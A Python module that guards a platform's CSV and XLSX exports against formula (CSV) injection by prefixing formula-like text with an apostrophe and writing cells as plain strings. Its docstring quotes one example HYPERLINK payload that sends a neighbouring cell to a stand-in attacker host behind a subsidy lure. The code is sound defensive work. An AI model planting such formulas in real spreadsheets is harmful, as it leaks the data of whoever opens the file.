"""Cells of the spreadsheets the platform writes (CSV and XLSX), made safe to open in Excel or WPS.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken by
spreadsheet programs as a formula when the file is opened or the cell edited ("CSV injection"): a
policy title or an enterprise name such as ``=HYPERLINK("http://evil.example/?leak="&A2,"点击领取补贴")``
would become a live link that sends the neighbouring cell away. Following the OWASP guidance, such a
cell is written with a leading apostrophe, so it is shown as the text it is. Numbers stay numbers: an
``int``, ``float`` or ``Decimal`` is never touched, and neither is text that is only a plain number
(``-12.5``), which no spreadsheet reads as a formula.

Every CSV and XLSX writer of the platform (the registry's import report, ``qinqing lists`` exports,
the supervision CSVs) passes its cells through :func:`safe_cell`; XLSX writers also write text as text
(:func:`write_xlsx_row`, never xlsxwriter's ``write``, which turns ``=…`` into a formula and ``http…``
into a hyperlink).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written to a spreadsheet cell: formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``, every cell through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]


def xlsx_workbook(path: str | Path):
    """An xlsxwriter workbook that never turns a string into a formula, number or hyperlink."""
    import xlsxwriter

    return xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False,
                                           "strings_to_urls": False})


def write_xlsx_row(sheet, row: int, values: Iterable[Any]) -> None:
    """Write ``values`` to row ``row`` (0-based) of an xlsxwriter sheet, each cell as its own type:
    text as text (through :func:`safe_cell`), numbers as numbers, booleans as booleans, None empty."""
    for column, value in enumerate(values):
        if value is None:
            continue
        if isinstance(value, bool):
            sheet.write_boolean(row, column, value)
        elif isinstance(value, (int, float, Decimal)):
            sheet.write_number(row, column, float(value) if isinstance(value, Decimal) else value)
        elif isinstance(value, (date, datetime)):
            sheet.write_string(row, column, value.isoformat())
        else:
            sheet.write_string(row, column, safe_cell(str(value)))
